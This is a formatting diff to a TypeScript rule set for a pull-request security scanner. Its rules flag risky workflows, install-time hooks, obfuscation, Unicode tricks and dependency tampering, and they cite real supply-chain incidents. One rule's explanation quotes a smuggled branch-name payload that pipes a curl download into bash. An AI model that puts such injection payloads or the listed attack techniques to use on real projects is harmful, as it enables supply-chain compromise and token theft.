@@ -8,12 +8,24 @@ export interface PrRule extends Rule {
   family: Family;
 }
 
-const XZ = { title: 'xz-utils backdoor (CVE-2024-3094)', url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4' };
-const ULTRALYTICS = { title: 'Ultralytics branch-name injection (2024)', url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection' };
-const TJ = { title: 'tj-actions/changed-files compromise (CVE-2025-30066)', url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3' };
+const XZ = {
+  title: 'xz-utils backdoor (CVE-2024-3094)',
+  url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
+};
+const ULTRALYTICS = {
+  title: 'Ultralytics branch-name injection (2024)',
+  url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection'
+};
+const TJ = {
+  title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
+  url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
+};
 const TROJAN = { title: 'Trojan Source (CVE-2021-42574)', url: 'https://trojansource.codes/' };
 const GHOST = { title: 'GhostAction / Shai-Hulud: workflows that send secrets to outside hosts (2025)' };
-const PYTORCH = { title: 'PyTorch self-hosted runner compromise (2024)', url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/' };
+const PYTORCH = {
+  title: 'PyTorch self-hosted runner compromise (2024)',
+  url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
+};
 
 function rule(family: Family, r: Omit<PrRule, 'family'>): PrRule {
   return { family, ...r, id: `${family}/${r.id}` };
@@ -24,8 +36,9 @@ export const WF_DANGEROUS_TRIGGER = rule('workflow', {
   id: 'dangerous-trigger',
   title: 'pull_request_target / workflow_run workflow that uses PR code',
   severity: 'critical',
-  why: 'These triggers run with the base repository\'s secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).',
-  remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
+  why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
+  remediation:
+    'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
   spec: ['S8-16', 'S8-6'],
   references: [ULTRALYTICS, PYTORCH]
 });
@@ -34,7 +47,8 @@ export const WF_TEMPLATE_INJECTION = rule('workflow', {
   title: 'Attacker-controlled expression expanded into a script',
   severity: 'high',
   why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
-  remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
+  remediation:
+    'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
   spec: ['S8-16'],
   references: [ULTRALYTICS]
 });
@@ -43,7 +57,8 @@ export const WF_SECRETS_EXFIL = rule('workflow', {
   title: 'Workflow sends secrets to an outside host',
   severity: 'critical',
   why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
-  remediation: 'Remove the step; if a secret must reach a service, use that service\'s official action pinned by SHA, or OIDC.',
+  remediation:
+    "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
   spec: ['S6-7', 'S8-16'],
   references: [GHOST]
 });
@@ -61,7 +76,8 @@ export const WF_SELF_HOSTED = rule('workflow', {
   title: 'Self-hosted runner reachable from pull requests',
   severity: 'high',
   why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
-  remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
+  remediation:
+    'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
   spec: ['S8-16'],
   references: [PYTORCH]
 });
@@ -86,7 +102,7 @@ export const WF_UNTRUSTED_TRIGGER = rule('workflow', {
   id: 'untrusted-trigger',
   title: 'New trigger on comments or discussions',
   severity: 'medium',
-  why: 'Anyone can open a discussion or comment; workflows on these events run with the repository\'s privileges and are a common command-and-control channel (Shai-Hulud).',
+  why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
   remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
   spec: ['S8-16'],
   references: [GHOST]
@@ -106,7 +122,7 @@ export const BUILD_SETUP_PY = rule('build', {
   id: 'setup-py',
   title: 'setup.py gains install-time code (cmdclass, network, processes)',
   severity: 'high',
-  why: '`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers\' and users\' machines.',
+  why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
   remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
   spec: ['S8-16']
 });
@@ -115,7 +131,8 @@ export const BUILD_BACKEND = rule('build', {
   title: 'Build backend changed',
   severity: 'high',
   why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
-  remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
+  remediation:
+    'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
   spec: ['S8-16']
 });
 export const BUILD_NATIVE = rule('build', {
@@ -148,7 +165,7 @@ export const BUILD_PRECOMMIT_LOCAL = rule('build', {
   id: 'pre-commit-local',
   title: 'Local pre-commit hook added',
   severity: 'medium',
-  why: 'A `repo: local` hook runs an arbitrary command on every contributor\'s machine and in CI.',
+  why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
   remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
   spec: ['S8-16']
 });
@@ -193,7 +210,7 @@ export const BIN_ARCHIVE_TESTS = rule('binary', {
   id: 'compressed-test-data',
   title: 'Compressed archive or blob under tests',
   severity: 'medium',
-  why: 'Compressed test fixtures can carry anything; xz\'s payload was in `tests/files/*.xz`.',
+  why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
   remediation: 'Ask how the fixture was generated and regenerate it yourself.',
   spec: ['S8-16'],
   references: [XZ],
@@ -305,7 +322,7 @@ export const DEP_NEW = rule('deps', {
   id: 'new-dependency',
   title: 'New dependency',
   severity: 'info',
-  why: 'Each new dependency is code that runs in your users\' environments.',
+  why: "Each new dependency is code that runs in your users' environments.",
   remediation: 'Check the project is maintained and the name is the one intended.',
   spec: ['S8-16']
 });
@@ -340,7 +357,8 @@ export const META_REF_INJECTION = rule('meta', {
   title: 'Shell syntax in the branch name',
   severity: 'high',
   why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
-  remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
+  remediation:
+    'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
   spec: ['S8-16'],
   references: [ULTRALYTICS]
 });
@@ -356,8 +374,9 @@ export const META_BOT_IDENTITY = rule('meta', {
   id: 'unverified-bot-identity',
   title: 'Commit claims a bot identity without verification',
   severity: 'high',
-  why: 'Anyone can set their git author to `github-actions[bot]`; tj-actions\' malicious commit posed as Renovate.',
-  remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
+  why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
+  remediation:
+    'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
   spec: ['S8-4'],
   references: [TJ]
 });
@@ -407,14 +426,47 @@ export const SECRET = rule('secrets', {
 });
 
 export const RULES: PrRule[] = [
-  WF_DANGEROUS_TRIGGER, WF_TEMPLATE_INJECTION, WF_SECRETS_EXFIL, WF_TOJSON_SECRETS, WF_SELF_HOSTED, WF_UNPINNED, WF_PERMISSIONS,
-  WF_UNTRUSTED_TRIGGER, WF_RUNNER_REGISTRATION,
-  BUILD_SETUP_PY, BUILD_BACKEND, BUILD_NATIVE, BUILD_AUTOTOOLS, BUILD_TEST_HOOK, BUILD_PRECOMMIT_LOCAL, BUILD_PTH, BUILD_IMPORT_PROCESS,
-  BIN_OPAQUE, BIN_EXECUTABLE, BIN_ARCHIVE_TESTS, BIN_ONLY,
-  OBF_ENCODED_EXEC, OBF_LONG_LITERAL, OBF_DECOMPRESS, OBF_CHR_CHAIN, OBF_PACKER, OBF_BUNDLE,
-  UNI_BIDI, UNI_INVISIBLE, UNI_HOMOGLYPH,
-  DEP_NEW, DEP_TYPOSQUAT, DEP_DIRECT_URL, DEP_INDEX_URL,
-  META_REF_INJECTION, META_EMPTY_NEW, META_BOT_IDENTITY, META_GOVERNANCE, META_NEW_AUTHOR, META_AUTORUN, META_SUPPRESSION,
+  WF_DANGEROUS_TRIGGER,
+  WF_TEMPLATE_INJECTION,
+  WF_SECRETS_EXFIL,
+  WF_TOJSON_SECRETS,
+  WF_SELF_HOSTED,
+  WF_UNPINNED,
+  WF_PERMISSIONS,
+  WF_UNTRUSTED_TRIGGER,
+  WF_RUNNER_REGISTRATION,
+  BUILD_SETUP_PY,
+  BUILD_BACKEND,
+  BUILD_NATIVE,
+  BUILD_AUTOTOOLS,
+  BUILD_TEST_HOOK,
+  BUILD_PRECOMMIT_LOCAL,
+  BUILD_PTH,
+  BUILD_IMPORT_PROCESS,
+  BIN_OPAQUE,
+  BIN_EXECUTABLE,
+  BIN_ARCHIVE_TESTS,
+  BIN_ONLY,
+  OBF_ENCODED_EXEC,
+  OBF_LONG_LITERAL,
+  OBF_DECOMPRESS,
+  OBF_CHR_CHAIN,
+  OBF_PACKER,
+  OBF_BUNDLE,
+  UNI_BIDI,
+  UNI_INVISIBLE,
+  UNI_HOMOGLYPH,
+  DEP_NEW,
+  DEP_TYPOSQUAT,
+  DEP_DIRECT_URL,
+  DEP_INDEX_URL,
+  META_REF_INJECTION,
+  META_EMPTY_NEW,
+  META_BOT_IDENTITY,
+  META_GOVERNANCE,
+  META_NEW_AUTHOR,
+  META_AUTORUN,
+  META_SUPPRESSION,
   SECRET
 ];
 
